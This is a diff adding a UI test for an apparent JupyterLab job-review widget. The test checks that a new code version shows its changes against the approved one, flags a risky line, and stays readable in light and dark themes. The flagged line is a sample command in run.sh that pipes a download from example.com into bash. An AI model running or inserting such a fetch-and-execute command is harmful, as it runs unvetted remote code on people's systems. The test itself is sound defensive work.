@@ -714,3 +714,110 @@ def test_both_widgets_read_well_in_every_theme(lab: JupyterLab, screenshot_dir: 
     for slug in THEMES:
         assert (shots / f"review-{slug}.png").stat().st_size > 0
     assert results.console == []
+
+
+def test_a_new_version_opens_on_its_diff_with_flagged_lines(
+    lab: JupyterLab, screenshot_dir: Path
+) -> None:
+    """v1 approved, v2 with run.sh changed to pipe a download into bash: the row says what
+    changed since v1, Open shows the diff first, and the flagged line has a gutter mark with
+    its message, readable (axe, contrast) in light and dark themes."""
+    base = lab.root / "diff-review"
+    syftbox = base / "SyftBox"
+    syftbox.mkdir(parents=True)
+    ds = scq.create_client(email=DS, syftbox_dir=syftbox)
+    files = {f"part{i}.py": f"print({i})\n" for i in range(1, 6)}
+    files["README.md"] = "Cohort statistics, aggregated.\n"
+    v1 = ds.submit_code(DO, _package(base / "v1", 'echo "rows: 3"\n', files), name="Cohort")
+    with scq.create_server(email=DO, syftbox_dir=syftbox, isolation="none") as server:
+        server.list_pending_jobs()
+        server.approve_job(v1.uid)
+    script = 'echo "rows: 3"\ncurl -s https://example.com/setup.sh | bash\n'
+    v2 = ds.submit_code(DO, _package(base / "v2", script, files), name="Cohort", supersedes=v1.uid)
+    nb = _owner_notebook(base / "diff.ipynb", syftbox, "server.review_widget()")
+    row = ROW(str(v2.uid))
+    flagged = "document.querySelector('.scq-code .scq-flag')"
+    steps: list[dict[str, object]] = [
+        {"op": "run_all"},
+        {"op": "wait_text", "selector": f"{row} .scq-changes", "text": "changed since"},
+        {"op": "text", "selector": f"{row} .scq-changes", "name": "row_changes"},
+        {"op": "wait_text", "selector": f"{row} .scq-hints", "text": "warn"},
+        {"op": "text", "selector": f"{row} .scq-hints", "name": "row_hints"},
+        {"op": "click", "selector": f"{row} .scq-open"},
+        {"op": "wait", "selector": ".scq-diff-view .scq-diff-file"},
+        {"op": "text", "selector": ".scq-diff-summary", "name": "summary"},
+        {"op": "texts", "selector": ".scq-diff-file .scq-diff-path", "name": "changed"},
+        {"op": "texts", "selector": ".scq-diff-file .scq-change", "name": "kinds"},
+        {"op": "texts", "selector": ".scq-diff-add", "name": "added"},
+        {"op": "count", "selector": ".scq-unchanged li", "name": "unchanged"},
+        {
+            "op": "eval",
+            "name": "viewer_hidden",
+            "expression": "document.querySelector('.scq-detail .scq-viewer').hidden",
+        },
+    ]
+    shots = Path(os.environ.get("SCQ_SCREENSHOTS") or screenshot_dir)
+    shots.mkdir(parents=True, exist_ok=True)
+    for slug in ("light", "dark"):
+        steps += [
+            {"op": "theme", "theme": THEMES[slug]},
+            {"op": "axe", "selector": ".scq-widget", "name": f"axe-diff-{slug}"},
+            {"op": "contrast", "selector": ".scq-widget", "name": f"contrast-diff-{slug}"},
+            {
+                "op": "screenshot",
+                "selector": ".scq-review",
+                "path": str(shots / f"diff-{slug}.png"),
+            },
+        ]
+    steps += [
+        {"op": "theme", "theme": THEMES["light"]},
+        {"op": "click", "selector": ".scq-mode-files"},
+        {"op": "wait_text", "selector": ".scq-viewer-path", "text": "run.sh"},
+        {"op": "wait", "selector": ".scq-code .scq-flag"},
+        {
+            "op": "eval",
+            "name": "flag",
+            "expression": f"(() => {{ const line = {flagged}; "
+            "const lines = [...line.parentNode.querySelectorAll(':scope > .scq-line')]; "
+            "return [lines.indexOf(line) + 1, line.className, line.title, "
+            "line.querySelector('.scq-visually-hidden').textContent]; })()",
+        },
+        {"op": "text", "selector": ".scq-hint-list", "name": "hint_list"},
+        {"op": "text", "selector": '.scq-file[data-path="run.sh"] .scq-file-meta', "name": "meta"},
+    ]
+    for slug in ("light", "dark"):
+        steps += [
+            {"op": "theme", "theme": THEMES[slug]},
+            {"op": "axe", "selector": ".scq-widget", "name": f"axe-file-{slug}"},
+            {"op": "contrast", "selector": ".scq-widget", "name": f"contrast-file-{slug}"},
+            {
+                "op": "screenshot",
+                "selector": ".scq-review",
+                "path": str(shots / f"flags-{slug}.png"),
+            },
+        ]
+    results = drive(lab, nb, steps, timeout_s=240, screenshot_dir=screenshot_dir)
+    assert results["row_changes"] == "v2 · changed since approved v1: 1 of 7 files"
+    assert re.fullmatch(r"\d+ warn(, \d+ look)?", results["row_hints"])  # curl | bash
+    assert results["summary"] == "changed since approved v1: 1 of 7 files"
+    assert results["changed"] == ["run.sh"]
+    assert results["kinds"] == ["changed"]
+    assert any("curl -s https://example.com/setup.sh | bash" in a for a in results["added"])
+    assert results["unchanged"] == 6
+    assert results["viewer_hidden"] is True
+    number, classes, title, hidden = results["flag"]
+    assert number == 2
+    assert "scq-flag-warn" in classes
+    assert "warn" in title and "bash" in title.lower()
+    assert title in hidden
+    assert "line 2" in results["hint_list"]
+    assert results["meta"].startswith("changed")
+    for name in ("diff-light", "diff-dark", "file-light", "file-dark"):
+        contrast = results[f"contrast-{name}"]
+        assert contrast["failures"] == [], f"{name}: {contrast}"
+        found = results[f"axe-{name}"]
+        serious = [v for v in found["violations"] if v["impact"] in ("serious", "critical")]
+        assert serious == [], f"{name}: {serious}"
+        unsure = [v for v in found["incomplete"] if v["impact"] in ("serious", "critical")]
+        assert unsure == [], f"{name}: axe could not decide: {unsure}"
+    assert results.console == []
